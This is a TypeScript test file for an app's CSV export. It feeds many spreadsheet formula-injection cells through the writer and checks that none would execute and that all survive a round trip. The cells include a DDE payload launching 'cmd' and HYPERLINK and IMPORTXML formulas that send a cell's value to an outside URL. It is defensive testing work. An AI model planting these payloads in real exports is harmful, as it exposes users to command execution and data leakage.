import { writeRecord } from '../../electron/services/exports/csv-writer.ts'
import { bareCell, typedCell } from '../../electron/services/exports/neutral-cells.ts'
import { readCsvText } from '../../electron/services/imports/read-csv.ts'
import type { Fault, Tally } from './outcome.ts'

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  "''",
  '"',
  ' ',
  ',',
  ';',
  '',
]
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'cmd|’ /C calc’!A0',
  'HYPERLINK("https://example.com?x="&A1,"open")',
  'IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
  '33 6 12 34 56 78',
  '-02-14',
  'a@b.example',
  "'=1",
  '""',
  'a,b;c|d',
  'two\nlines',
  'two;=1+1',
  'Ünï 田中 محمد 🙂',
  '',
]
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/u
// A reader that separates by semicolons heeds no quote in the middle of what it takes for a cell.
const RUNS_ELSEWHERE = /[;\t\r\n]"*[=+\-@＝＋－＠]/u

/** Everything a cell may begin with before everything it may go on with, and each again behind a second beginning. */
function nastyCells(): string[] {
  const once = STARTS.flatMap((start) => BODIES.map((body) => start + body))
  return [...once, ...STARTS.flatMap((start) => once.map((cell) => start + cell))]
}

/** F11: cells made to run in a spreadsheet leave the book, none of them runs, and all come back to the letter. */
export const nastyTables: Fault = {
  name: 'F11',
  title: 'cells made to run in a spreadsheet',
  defaultRuns: nastyCells().length,
  run(runs, tally) {
    const cells = nastyCells().slice(0, runs)
    for (const cell of cells) judge(cell, tally)
    // One table of them all: a cell must not spill into its neighbours.
    const table = cells.map((cell) => writeRecord(['before', cell, 'after'])).join('')
    const back = readCsvText(table, ',').map(({ cells }) => cells.map(bareCell))
    if (back.length !== cells.length) tally.fail(`${cells.length} records became ${back.length}`)
    for (const [at, cell] of cells.entries()) {
      if (back[at]?.join('\0') === `before\0${cell}\0after`) tally.acknowledged += 1
      else tally.torn += 1
    }
    tally.figures = { cells: cells.length }
    return Promise.resolve(cells.length)
  },
}

function judge(cell: string, tally: Tally): void {
  const written = readCsvText(writeRecord([cell, 'next']), ',')[0]?.cells[0] ?? ''
  if (RUNS.test(written) || RUNS_ELSEWHERE.test(written)) tally.fail(`${JSON.stringify(cell)} would run`)
  if (bareCell(written) !== cell) tally.lost += 1
  if (bareCell(typedCell(cell)) !== cell) tally.fail(`${JSON.stringify(cell)} changes in a workbook`)
}
